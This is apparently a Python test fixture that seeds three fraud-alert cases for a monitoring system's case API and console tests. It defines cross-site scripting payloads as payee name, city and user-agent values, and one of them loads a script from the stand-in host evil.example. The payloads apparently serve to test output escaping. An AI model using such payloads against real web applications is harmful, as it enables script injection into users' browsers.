"""Support cases for the case API and console tests, made the way production makes them:
decisions saved through ``save_decisions(..., responder=...)`` with the real playbooks, so
cases, restrictions and commands come from the real planner.

- ``acc-1`` (queue account_security, P1): a login from a new device, then a drain to a
  new payee whose name, city and user agent are attacker-controlled HTML; payments
  frozen (a restriction in force).
- ``acc-2`` (queue payments, P2): a large transfer from an IP address (personal data).
- ``acc-3`` (queue topup, P3): a top-up burst.
"""

from __future__ import annotations

import time
from pathlib import Path

from monitor.decision import Decision, Reason, decide
from monitor.responders.responder import PlaybookResponder, load_playbooks
from monitor.store import AlertStore, AuditContext

RULES_DIR = Path(__file__).resolve().parents[2] / "rules"
XSS_PAYEE = "<script>alert('payee')</script>"
XSS_CITY = '<img src=x onerror="alert(1)">'
XSS_AGENT = "Mozilla/5.0 <script src=//evil.example/x.js></script>"
CLIENT_IP = "203.0.113.77"


def responder() -> PlaybookResponder:
    return PlaybookResponder(load_playbooks(RULES_DIR))


def _hit(rule: str, text: str, **values: object) -> Reason:
    return Reason(code=f"rule:{rule}", text=text, rule_id=rule, values=values)


def case_decisions(now: float | None = None) -> list[Decision]:
    """The alerts behind the three cases, an hour ago to ten minutes ago."""
    t = (now or time.time()) - 3600
    support = ["alert_support"]
    return [
        decide(
            event_id="d1",
            account_id="acc-1",
            event_type="login",
            event_ts=t,
            rule_hits=[("medium", 0.6, _hit("new_device", "login from a device never seen"))],
            anomaly=None,
            actions=support,
            queue="account_security",
        ),
        decide(
            event_id="d2",
            account_id="acc-1",
            event_type="payment",
            event_ts=t + 600,
            rule_hits=[
                (
                    "critical",
                    0.95,
                    _hit(
                        "takeover_drain",
                        f"97% of the balance to new payee {XSS_PAYEE} in {XSS_CITY}",
                        payee_name=XSS_PAYEE,
                        city=XSS_CITY,
                        user_agent=XSS_AGENT,
                        balance_share=0.97,
                    ),
                )
            ],
            anomaly=None,
            actions=["disable_payment_features", *support],
            queue="account_security",
            learn_input={"amount_z": 4.2},
        ),
        decide(
            event_id="d3",
            account_id="acc-2",
            event_type="payment",
            event_ts=t + 1200,
            rule_hits=[
                (
                    "high",
                    0.8,
                    _hit(
                        "large_transfer",
                        f"a transfer 12x the usual amount from {CLIENT_IP}",
                        client_ip=CLIENT_IP,
                    ),
                )
            ],
            anomaly=None,
            actions=support,
            queue="payments",
        ),
        decide(
            event_id="d4",
            account_id="acc-3",
            event_type="topup",
            event_ts=t + 3000,
            rule_hits=[("medium", 0.55, _hit("topup_burst", "5 top-ups in 10 minutes"))],
            anomaly=None,
            actions=support,
            queue="topup",
        ),
    ]


def seed_cases(store: AlertStore, planner: PlaybookResponder) -> dict[str, str]:
    """Save the decisions; the open case id of each account."""
    store.save_decisions(case_decisions(), responder=planner)
    return {
        account: str(store.open_cases(account)[0]["case_id"])
        for account in ("acc-1", "acc-2", "acc-3")
    }


def create_payments_analyst(store: AlertStore) -> str:
    """``pat``, an analyst of the payments queue only; their token."""
    return store.create_user("pat", "analyst", ["payments"], by=AuditContext("tests", "cli"))[1]
